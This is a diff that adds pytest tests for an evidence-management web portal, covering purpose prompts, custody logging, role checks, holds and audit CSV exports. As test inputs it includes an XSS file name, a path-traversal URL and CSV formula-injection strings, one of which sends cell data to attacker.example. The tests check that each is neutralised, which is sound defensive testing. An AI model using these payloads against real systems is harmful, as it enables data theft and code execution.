@@ -14,6 +14,7 @@ import re
 from collections.abc import Iterator
 from dataclasses import dataclass, field
 from datetime import timedelta
+from pathlib import Path
 from urllib.parse import parse_qs, urlparse
 
 import pytest
@@ -115,7 +116,8 @@ def pages(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PagesPortal]:
 
 def events_of(pages: PagesPortal, evidence_id: str) -> list[dict[str, object]]:
     return [
-        {"type": e.type, "actor": e.actor, **e.details} for e in pages.station.vault.custody.events(evidence_id)
+        {"type": e.type, "actor": e.actor, **e.details}
+        for e in pages.station.vault.custody.events(evidence_id)
     ]
 
 
@@ -262,3 +264,376 @@ def test_the_search_log_refuses_changes_and_its_verification_finds_them(pages: P
     assert any("record 1 does not match its signature" in p for p in problems)
     engine.dispose()
     log.close()
+
+
+# -- an incident ------------------------------------------------------------------------------------------
+
+
+def test_the_incident_page_asks_a_purpose_once_then_shows_thumbnails_history_holds_and_retention(
+    pages: PagesPortal,
+) -> None:
+    ivy = pages.client("ivy", "investigator")
+    linked = [pages.ids["IMG_0001.JPG"], pages.ids[HOSTILE_NAME], pages.ids["VID_0001.MP4"]]
+    before = {evidence_id: len(events_of(pages, evidence_id)) for evidence_id in linked}
+    asking = ivy.get(f"/incidents/{INCIDENT}")
+    assert asking.status_code == 200
+    assert 'id="purpose-form"' in asking.text and 'src="/items/' not in asking.text
+    assert {e: len(events_of(pages, e)) for e in linked} == before  # nothing decrypted, nothing recorded
+    for evidence_id in linked:
+        assert f'id="item-{evidence_id}"' in asking.text
+    assert asking.text.count("held</strong>: incident:KNT-2026-000123") == 3
+    assert asking.text.count("hold set by ivy") == 3 and "Crown Court trial listed" in asking.text
+    assert asking.text.count(f"linked {INCIDENT} by ivy") == 3 and ": scene photos" in asking.text
+    # held items are kept whatever the policy's date; the page says so, and how long storage locks them
+    assert asking.text.count("a hold keeps it") == 3 and "storage locked until" in asking.text
+
+    purpose = "CPS disclosure, case file 3"
+    refused = ivy.post(f"/incidents/{INCIDENT}/purpose", data={"purpose": purpose})
+    assert refused.status_code == 403
+    given = ivy.post(
+        f"/incidents/{INCIDENT}/purpose", data={"purpose": purpose, "csrf_token": form_token(asking.text)}
+    )
+    assert (given.status_code, given.headers["location"]) == (303, f"/incidents/{INCIDENT}")
+    shown = ivy.get(f"/incidents/{INCIDENT}")
+    assert 'id="purpose-form"' not in shown.text
+    for evidence_id in linked:
+        assert f'src="/items/{evidence_id}/thumbnail"' in shown.text
+        view = events_of(pages, evidence_id)[-1]
+        assert view["type"] == "access" and view["action"] == "view" and view["purpose"] == purpose
+        assert (view["incident"], view["via"], view["sign_in"], view["client"]) == (
+            INCIDENT,
+            "portal",
+            "password+totp",
+            "testclient",
+        )
+    assert re.search(r'class="duration">1\.0 s<', shown.text)  # the video's, from its sealed details
+    # the purpose was remembered for each item: the item page does not ask again
+    assert 'id="purpose-form"' not in ivy.get(f"/items/{linked[0]}").text
+
+
+def test_a_reference_with_slashes_round_trips_through_the_incident_page_and_its_forms(
+    pages: PagesPortal,
+) -> None:
+    ivy = pages.client("ivy", "investigator")
+    page = ivy.get("/incidents/37/12345/26")
+    assert page.status_code == 200 and pages.ids["IMG_0101.JPG"] in page.text
+    assert 'action="/incidents/37/12345/26/purpose"' in page.text
+    assert 'action="/incidents/37/12345/26/links"' in page.text
+    assert ivy.get("/incidents/37%2F12345%2F26").status_code == 200
+    given = ivy.post(
+        "/incidents/37/12345/26/purpose", data={"purpose": "review", "csrf_token": form_token(page.text)}
+    )
+    assert (given.status_code, given.headers["location"]) == (303, "/incidents/37/12345/26")
+    assert ivy.get("/incidents/KNT-2026-999999").status_code == 404
+    bad = ivy.get("/incidents/37/12345/26/../../etc")
+    assert bad.status_code in (400, 404) and "Traceback" not in bad.text
+
+
+def test_each_role_sees_what_it_may_and_an_officer_gets_403_for_an_item(pages: PagesPortal) -> None:
+    olly = pages.client("olly", "officer")
+    page = olly.get(f"/incidents/{INCIDENT}")
+    assert page.status_code == 200
+    assert 'id="purpose-form"' not in page.text and "/thumbnail" not in page.text
+    assert 'href="/items/' not in page.text  # no evidence details for an officer
+    assert 'id="link-form"' in page.text and 'action="/items/' in page.text  # may link and unlink
+    for absent in ('id="hold-form"', 'id="release-form"', 'id="export-form"'):
+        assert absent not in page.text
+    evidence_id = pages.ids["IMG_0001.JPG"]
+    before = len(events_of(pages, evidence_id))
+    refused = olly.get(f"/items/{evidence_id}")
+    assert refused.status_code == 403 and "may not get" in refused.text
+    token = form_token(page.text)
+    assert (
+        olly.post(f"/items/{evidence_id}/purpose", data={"purpose": "x", "csrf_token": token}).status_code
+        == 403
+    )
+    assert (
+        olly.post(f"/incidents/{INCIDENT}/purpose", data={"purpose": "x", "csrf_token": token}).status_code
+        == 403
+    )
+    assert len(events_of(pages, evidence_id)) == before
+    sam = pages.client("sam", "storage-admin")
+    admin_page = sam.get(f"/incidents/{INCIDENT}").text
+    assert 'id="hold-form"' in admin_page and 'id="release-form"' in admin_page
+    assert 'id="link-form"' not in admin_page and "/thumbnail" not in admin_page
+    ivy_page = pages.client("ivy", "investigator").get(f"/incidents/{INCIDENT}").text
+    assert 'id="hold-form"' in ivy_page and 'id="export-form"' in ivy_page
+    assert 'id="release-form"' not in ivy_page
+
+
+# -- an item ------------------------------------------------------------------------------------------------
+
+
+def open_item(client: TestClient, evidence_id: str, purpose: str) -> str:
+    """Give the item page its purpose (as the form does) and return the page."""
+    asking = client.get(f"/items/{evidence_id}")
+    assert asking.status_code == 200, asking.text
+    if 'id="purpose-form"' in asking.text:
+        given = client.post(
+            f"/items/{evidence_id}/purpose", data={"purpose": purpose, "csrf_token": form_token(asking.text)}
+        )
+        assert (given.status_code, given.headers["location"]) == (303, f"/items/{evidence_id}")
+        asking = client.get(f"/items/{evidence_id}")
+        assert asking.status_code == 200, asking.text
+    return asking.text
+
+
+def test_the_item_page_shows_the_player_sealed_metadata_location_and_verified_chain(
+    pages: PagesPortal,
+) -> None:
+    ivy = pages.client("ivy", "investigator")
+    photo = pages.ids["IMG_0001.JPG"]
+    asking = ivy.get(f"/items/{photo}")
+    assert 'id="purpose-form"' in asking.text and "IMG_0001.JPG" not in asking.text
+    assert (
+        ivy.post(
+            f"/items/{photo}/purpose", data={"purpose": " ", "csrf_token": form_token(asking.text)}
+        ).status_code
+        == 400
+    )
+    page = open_item(ivy, photo, "identify the scene")
+    vault = pages.station.vault
+    details = vault.details(vault.manifest(photo))
+    assert f'id="original-name">{details.original_name}<' in page
+    assert f'id="source-path">{details.source_path}<' in page and f'id="sha256">{details.sha256}<' in page
+    assert "51.501000" in page and "-0.141900" in page and 'href="geo:51.501000,-0.141900"' in page
+    assert f'<img class="photo" src="/items/{photo}/content"' in page
+    assert f'id="download" href="/items/{photo}/content?download=1"' in page
+    assert "ACME" in page and "BWC-1" in page  # capture metadata: the camera's make and model
+    chain = events_of(pages, photo)
+    assert re.search(rf'id="custody-verification" class="ok">\s*Verified: {len(chain)} events', page)
+    view = chain[-1]
+    person = next(p for p in reversed(pages.people.values()) if p.user_id == "ivy")
+    assert view == {
+        "type": "access",
+        "actor": "ivy",
+        "action": "view",
+        "purpose": "identify the scene",
+        "sealed_details": True,
+        "via": "portal",
+        "sign_in": "password+totp",
+        "session": person.session_id,
+        "client": "testclient",
+    }
+    video = open_item(ivy, pages.ids["VID_0001.MP4"], "identify the scene")
+    assert f'<video controls preload="metadata" src="/items/{pages.ids["VID_0001.MP4"]}/content">' in video
+    assert "duration_seconds" in video and "The file states no location." in video
+
+
+def test_the_view_is_recorded_before_anything_decrypted_is_shown(
+    pages: PagesPortal, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    ivy = pages.client("ivy", "investigator")
+    photo = pages.ids["IMG_0101.JPG"]
+    vault = pages.station.vault
+    opened = vault.details
+    seen: list[dict[str, object]] = []
+
+    def details_after_the_record(manifest):  # type: ignore[no-untyped-def]
+        seen.append(events_of(pages, manifest.evidence_id)[-1])
+        return opened(manifest)
+
+    monkeypatch.setattr(vault, "details", details_after_the_record)
+    open_item(ivy, photo, "check before")
+    assert seen and seen[0]["action"] == "view" and seen[0]["purpose"] == "check before"
+
+    def refuse(*args: object, **kwargs: object) -> None:
+        raise StorageUnavailable("the store is down")
+
+    monkeypatch.setattr(vault.custody, "append", refuse)
+    seen.clear()
+    before = len(events_of(pages, photo))
+    failed = ivy.get(f"/items/{photo}")
+    assert failed.status_code == 503 and "the store is down" in failed.text
+    assert not seen  # never decrypted
+    sealed = opened(vault.manifest(photo))
+    for secret in (sealed.original_name, sealed.sha256, sealed.source_path, "52.205300"):
+        assert secret not in failed.text
+    assert len(events_of(pages, photo)) == before
+
+
+def test_a_device_file_name_that_is_markup_shows_as_text(pages: PagesPortal) -> None:
+    page = open_item(pages.client("ivy", "investigator"), pages.ids[HOSTILE_NAME], "check the name")
+    assert 'id="original-name">&lt;img src=x onerror=alert(1)&gt;.jpg<' in page
+    assert "<img src=x" not in page and "onerror=alert(1)>" not in page
+    assert "53.480800" in page  # the rest of the page is there
+
+
+# -- audit trails -------------------------------------------------------------------------------------------
+
+
+def csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_audit_trails_are_pages_and_csv_for_a_storage_admin_and_refused_to_others(pages: PagesPortal) -> None:
+    ivy = pages.client("ivy", "investigator")
+    photo = pages.ids["IMG_0001.JPG"]
+    open_item(ivy, photo, "audit me")
+    ivy.get("/search", params={"incident": INCIDENT})
+    ivy_session = next(p for p in reversed(pages.people.values()) if p.user_id == "ivy").session_id
+    sam = pages.client("sam", "storage-admin")
+
+    item_page = sam.get(f"/audit/items/{photo}")
+    assert item_page.status_code == 200 and "Custody chain verified" in item_page.text
+    chain = events_of(pages, photo)
+    for form in (f"/audit/items/{photo}?format=csv", f"/audit/items/{photo}.csv"):
+        answer = sam.get(form)
+        assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
+        assert answer.headers["content-disposition"] == f'attachment; filename="audit-{photo}.csv"'
+        rows = csv_rows(answer.text)
+        assert [r["event"] for r in rows] == [e["type"] for e in chain]
+    last = rows[-1]
+    assert (last["user"], last["action"], last["purpose"], last["session"], last["via"]) == (
+        "ivy",
+        "view",
+        "audit me",
+        ivy_session,
+        "portal",
+    )
+    assert rows[0]["event"] == "ingest" and "hold" in [r["event"] for r in rows]
+
+    user_page = sam.get("/audit/users/ivy")
+    assert user_page.status_code == 200 and "audit me" in user_page.text
+    trail = csv_rows(sam.get("/audit/users/ivy.csv").text)
+    assert trail == csv_rows(sam.get("/audit/users/ivy", params={"format": "csv"}).text)
+    assert [r["at"] for r in trail] == sorted(r["at"] for r in trail)
+    assert {r["event"] for r in trail} == {"access", "search"}
+    assert all(r["user"] == "ivy" for r in trail)
+    views = [r for r in trail if r["event"] == "access" and r["evidence_id"] == photo]
+    assert views[-1]["purpose"] == "audit me" and views[-1]["session"] == ivy_session
+    searched = [r for r in trail if r["event"] == "search"]
+    assert searched[-1]["incident"] == INCIDENT and "results=3" in searched[-1]["details"]
+    assert sam.get("/audit", params={"user": "ivy"}).headers["location"] == "/audit/users/ivy"
+
+    for other in (ivy, pages.client("olly", "officer")):
+        for url in (f"/audit/items/{photo}", f"/audit/items/{photo}.csv", "/audit/users/ivy.csv", "/audit"):
+            assert other.get(url).status_code == 403, url
+    assert sam.get("/audit/users/not a user").status_code == 400
+    assert sam.get("/audit/items/ev-nosuchitem").status_code == 400
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_made_inert(pages: PagesPortal) -> None:
+    from web.csv_download import inert
+
+    for hostile in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        assert inert(hostile) == "'" + hostile
+    assert inert("CPS disclosure = yes") == "CPS disclosure = yes"
+    ivy = pages.client("ivy", "investigator")
+    video = pages.ids["VID_0001.MP4"]
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    open_item(ivy, video, formula)
+    sam = pages.client("sam", "storage-admin")
+    for url in (f"/audit/items/{video}.csv", "/audit/users/ivy.csv"):
+        rows = csv_rows(sam.get(url).text)
+        mine = [r for r in rows if r["evidence_id"] == video and r["action"] == "view"][-1]
+        assert mine["purpose"] == "'" + formula
+        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+
+
+# -- linking, unlinking and holds ---------------------------------------------------------------------
+
+
+def test_link_unlink_hold_and_release_round_trip_with_csrf_and_role_checks(pages: PagesPortal) -> None:
+    incident = "KNT-2026-000777"
+    photo = pages.ids["IMG_0101.JPG"]
+    ivy, olly, sam = (
+        pages.client("ivy", "investigator"),
+        pages.client("olly", "officer"),
+        pages.client("sam", "storage-admin"),
+    )
+    ivy_token = form_token(ivy.get(f"/incidents/{INCIDENT}").text)
+    link = {"evidence_ids": f"{photo}\n", "reason": "seen on the same street"}
+    assert ivy.post(f"/incidents/{incident}/links", data=link).status_code == 403
+    assert ivy.post(f"/incidents/{incident}/links", data=link | {"csrf_token": "forged"}).status_code == 403
+    assert (
+        sam.post(  # a storage admin may not link
+            f"/incidents/{incident}/links", data=link | {"csrf_token": form_token(sam.get("/search").text)}
+        ).status_code
+        == 403
+    )
+    assert ivy.get(f"/incidents/{incident}").status_code == 404
+    linked = ivy.post(f"/incidents/{incident}/links", data=link | {"csrf_token": ivy_token})
+    assert linked.status_code == 200 and f"<td>{photo}</td><td>linked</td>" in linked.text
+    event = events_of(pages, photo)[-1]
+    assert (event["type"], event["incident"], event["reason"], event["via"]) == (
+        "link",
+        incident,
+        "seen on the same street",
+        "portal",
+    )
+    page = ivy.get(f"/incidents/{incident}").text
+    assert f"linked {incident} by ivy" in page and "not held" in page
+
+    reason = {"reason": "appeal lodged"}
+    assert (
+        olly.post(
+            f"/incidents/{incident}/hold", data=reason | {"csrf_token": form_token(olly.get("/search").text)}
+        ).status_code
+        == 403
+    )
+    assert ivy.post(f"/incidents/{incident}/hold", data=reason).status_code == 403
+    held = ivy.post(f"/incidents/{incident}/hold", data=reason | {"csrf_token": ivy_token})
+    assert held.status_code == 200 and f"<td>{photo}</td><td>held</td>" in held.text
+    assert f"incident:{incident}" in pages.station.catalog.item(photo).holds  # type: ignore[union-attr]
+    assert "hold set by ivy" in ivy.get(f"/incidents/{incident}").text
+    release = {"reason": "appeal dismissed"}
+    assert (
+        ivy.post(f"/incidents/{incident}/hold/release", data=release | {"csrf_token": ivy_token}).status_code
+        == 403
+    )
+    sam_token = form_token(sam.get(f"/incidents/{incident}").text)
+    assert sam.post(f"/incidents/{incident}/hold/release", data=release).status_code == 403
+    released = sam.post(f"/incidents/{incident}/hold/release", data=release | {"csrf_token": sam_token})
+    assert released.status_code == 200 and f"<td>{photo}</td><td>released" in released.text
+    event = events_of(pages, photo)[-1]
+    assert (event["type"], event["actor"], event["reason"], event["via"]) == (
+        "release",
+        "sam",
+        "appeal dismissed",
+        "portal",
+    )
+    assert "released by sam" in ivy.get(f"/incidents/{incident}").text
+
+    olly_token = form_token(olly.get(f"/incidents/{incident}").text)
+    unlink = {"incident": incident, "reason": "wrong street"}
+    assert olly.post(f"/items/{photo}/unlink", data=unlink).status_code == 403
+    assert sam.post(f"/items/{photo}/unlink", data=unlink | {"csrf_token": sam_token}).status_code == 403
+    unlinked = olly.post(f"/items/{photo}/unlink", data=unlink | {"csrf_token": olly_token})
+    assert unlinked.status_code == 200 and f"<td>{photo}</td><td>unlinked</td>" in unlinked.text
+    event = events_of(pages, photo)[-1]
+    assert (event["type"], event["actor"], event["incident"], event["client"]) == (
+        "unlink",
+        "olly",
+        incident,
+        "testclient",
+    )
+    assert ivy.get(f"/incidents/{incident}").status_code == 404  # nothing linked now
+    again = olly.post(f"/items/{photo}/unlink", data=unlink | {"csrf_token": olly_token})
+    assert again.status_code == 400 and "not linked" in again.text
+    bad = ivy.post(f"/incidents/{incident}/links", data={"evidence_ids": "ev-x", "csrf_token": ivy_token})
+    assert bad.status_code == 400 and "not an evidence id" in bad.text
+
+
+def test_a_catalog_rebuild_restores_the_access_index(pages: PagesPortal, tmp_path: Path) -> None:
+    from storage.catalog import Catalog
+
+    open_item(pages.client("ivy", "investigator"), pages.ids["IMG_0001.JPG"], "before the rebuild")
+    indexed = list(pages.station.catalog.accesses_by("ivy"))
+    assert indexed and pages.station.catalog.access_index_gap() is None
+    fresh = Catalog(f"sqlite:///{tmp_path / 'rebuilt.sqlite'}")
+    fresh.rebuild(pages.station.vault)
+    assert list(fresh.accesses_by("ivy")) == indexed
+    # a catalog made before the access index existed says its trail is partial, until rebuilt
+    import sqlalchemy as sa
+
+    engine = sa.create_engine(f"sqlite:///{tmp_path / 'rebuilt.sqlite'}")
+    with engine.begin() as conn:
+        conn.exec_driver_sql("DROP TABLE access_events")
+    engine.dispose()
+    fresh.close()
+    older = Catalog(f"sqlite:///{tmp_path / 'rebuilt.sqlite'}")
+    assert older.access_index_gap() is not None and list(older.accesses_by("ivy")) == []
+    older.rebuild(pages.station.vault)
+    assert older.access_index_gap() is None and list(older.accesses_by("ivy")) == indexed
+    older.close()
